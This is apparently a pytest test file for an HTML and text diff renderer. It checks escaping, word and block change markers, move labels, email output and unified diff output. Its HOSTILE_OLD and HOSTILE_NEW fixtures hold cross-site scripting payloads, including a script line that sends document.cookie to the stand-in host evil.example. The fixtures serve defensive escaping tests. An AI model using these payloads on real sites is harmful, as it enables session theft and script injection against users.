from __future__ import annotations

import random
from html.parser import HTMLParser
from itertools import pairwise

import pytest

from snapshots.diff_render import (
    BOUNDED_NOTE,
    render_email_html,
    render_inline_html,
    render_side_by_side_html,
    render_text,
    render_unified,
)
from snapshots.diffing import Diff, compute_diff
from tests.corpus import documents

HTML_RENDERERS = [render_inline_html, render_side_by_side_html, render_email_html]
ALLOWED_TAGS = {"div", "section", "h3", "span", "ins", "del", "table", "tbody", "tr", "td"}
ALLOWED_ATTRS = {"class", "aria-hidden", "role", "style", "width", "cellpadding", "cellspacing"}
ALLOWED_ATTRS |= {"border", "colspan"}

HOSTILE_OLD = (
    "# Terms <script>alert('title')</script>\n\n"
    "Read [this](javascript:alert(1)) now. <!-- secret --> <img src=x onerror=alert(2)>\n\n"
    'Quotes " and \' and & ampersands <b onclick="x()">bold</b>.\n'
)
HOSTILE_NEW = (
    "# Terms <script>alert('title')</script>\n\n"
    "Read [that](javascript:alert(1)) now. <!-- public --> <img src=y onerror=alert(3)>\n\n"
    'Quotes " and \' and & ampersands <b onclick="y()">bold</b>.\n\n'
    "<script>document.location='https://evil.example/'+document.cookie</script>\n"
)


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.comments.append(data)


def parse(html: str) -> _Page:
    page = _Page()
    page.feed(html)
    page.close()
    return page


def text_of(html: str) -> str:
    return "".join(parse(html).text)


def sample_diff():
    rng = random.Random(4)
    moved = " ".join(f"word{rng.randint(0, 999)}" for _ in range(30))
    old = (
        "# Privacy\n\nIntro.\n\n## Sharing\n\n"
        f"{moved}\n\nWe share data with partners.\n\nRemoved paragraph here.\n\n## Ads\n\nAds.\n"
    )
    new = (
        "# Privacy\n\nIntro.\n\n## Sharing\n\nWe share data with trusted partners.\n\n"
        f"## Ads\n\nAds.\n\nA new paragraph.\n\n{moved}\n"
    )
    return compute_diff(old, new, context=0)


@pytest.mark.parametrize("render", HTML_RENDERERS)
def test_it_escapes_html_in_every_html_renderer(render):
    html = render(compute_diff(HOSTILE_OLD, HOSTILE_NEW))
    page = parse(html)
    assert not page.comments
    for tag, attrs in page.tags:
        assert tag in ALLOWED_TAGS
        assert {name for name, _ in attrs} <= ALLOWED_ATTRS
    assert "<script" not in html.lower()
    assert "<img" not in html.lower()
    text = "".join(page.text)  # the hostile markup is all there, as text
    assert "<script>document.location=" in text
    assert "(javascript:alert(1))" in text
    assert "<!-- " in text
    assert "<img src=" in text


@pytest.mark.parametrize("render", [render_text, render_unified])
def test_it_keeps_html_verbatim_in_plain_text_renderers(render):
    # text/plain and the API's text field are never parsed as HTML: verbatim is inert.
    out = render(compute_diff(HOSTILE_OLD, HOSTILE_NEW))
    assert "<script>document.location='https://evil.example/'+document.cookie</script>" in out


def test_it_marks_words_with_ins_and_del():
    diff = compute_diff("We may share data.\n", "We will share data.\n")
    html = render_inline_html(diff)
    assert "We <del>may</del><ins>will</ins> share data." in html


def test_it_marks_whole_block_changes_without_relying_on_colour():
    html = render_inline_html(compute_diff("Kept.\n\nGone.\n", "Kept.\n\nNew.\n\nMore.\n"))
    assert (
        '<div class="diff-block diff-delete"><span class="diff-gutter" aria-hidden="true">\u2212'
        '</span><div class="diff-text"><span class="diff-sr">Removed: </span><del>Gone.</del>'
    ) in html
    assert '<span class="diff-sr">Added: </span><ins>More.</ins>' in html
    assert html.count('aria-hidden="true">+</span>') == 2  # "Gone." and "New." share no word


def test_it_shows_each_hunk_section():
    diff = sample_diff()
    html = render_inline_html(diff)
    for hunk in diff.hunks:
        assert (
            f'<h3 class="diff-section"><span class="diff-sr">Section: </span>{hunk.section}</h3>'
            in html
        )
    assert "=== Sharing ===" in render_text(diff)


def test_it_labels_moves_in_every_renderer():
    diff = sample_diff()
    assert diff.stats.blocks_moved == 1
    for render in HTML_RENDERERS:
        text = text_of(render(diff))
        assert "Moved from here to “Ads”: " in text
        assert "Moved here from “Sharing”: " in text
    assert "[Moved here from “Sharing”]" in render_text(diff)
    filtered = diff.filter_hunks(lambda h: h.section == "Ads")
    assert "Moved here from elsewhere: " in text_of(render_inline_html(filtered))


def test_it_shows_the_same_text_in_email_as_inline():
    for diff in [sample_diff(), compute_diff(HOSTILE_OLD, HOSTILE_NEW)]:
        email = render_email_html(diff)
        assert text_of(email) == text_of(render_inline_html(diff))
        assert "class=" not in email
        assert "<style" not in email
        assert '<ins style="' in email
        assert '<del style="' in email


def test_it_shows_the_same_text_in_email_as_inline_for_corpus_changes():
    for versions in documents().values():
        texts = [v.text() for v in versions][:6]
        for old, new in pairwise(texts):
            diff = compute_diff(old, new)
            assert text_of(render_email_html(diff)) == text_of(render_inline_html(diff))


def test_it_renders_side_by_side_with_both_sides():
    html = render_side_by_side_html(compute_diff("We may share.\n", "We will share.\n"))
    assert '<div class="diff-cell diff-old">' in html
    assert "We <del>may</del> share." in html
    assert "We <ins>will</ins> share." in html
    assert '<span class="diff-side">Before</span>' in html  # labels when stacked


def test_it_renders_plain_text_with_word_markers():
    diff = compute_diff(
        "## Use\n\nWe may use data.\n\nOld line.\n", "## Use\n\nWe will use data.\n\nNew one.\n"
    )
    assert render_text(diff) == (
        "=== Use ===\n  ## Use\n~ We [-may-][+will+] use data.\n- [-Old line.-]\n+ [+New one.+]\n"
    )


def test_it_renders_a_stable_unified_diff():
    old = "# T\n\nKeep.\n\nWe may use data.\n\n*   a\n*   b\n"
    new = "# T\n\nKeep.\n\nWe will use data.\n\n*   a\n*   b\n*   c\n"
    out = render_unified(compute_diff(old, new), old_label="v1", new_label="v2")
    assert out == (
        "--- v1\n+++ v2\n"
        "@@ -2,4 +2,5 @@ T\n"
        " Keep.\n"
        "-We may use data.\n"
        "+We will use data.\n"
        " *   a\n"
        " *   b\n"
        "+*   c\n"
    )
    assert render_unified(compute_diff(old, new), old_label="v1", new_label="v2") == out


def test_it_renders_an_empty_diff_as_nothing_changed():
    diff = compute_diff("Same.\n", "Same.\n")
    assert text_of(render_inline_html(diff)) == "\n\n"
    assert render_text(diff) == ""
    assert render_unified(diff) == ""


def test_it_says_so_when_the_diff_hit_its_work_bound():
    diff = compute_diff("We may share.\n", "We will share.\n")
    bounded = Diff(hunks=diff.hunks, stats=diff.stats, bounded=True)
    for render in [*HTML_RENDERERS, render_text]:
        assert BOUNDED_NOTE in text_of(render(bounded))
        assert BOUNDED_NOTE not in text_of(render(diff))
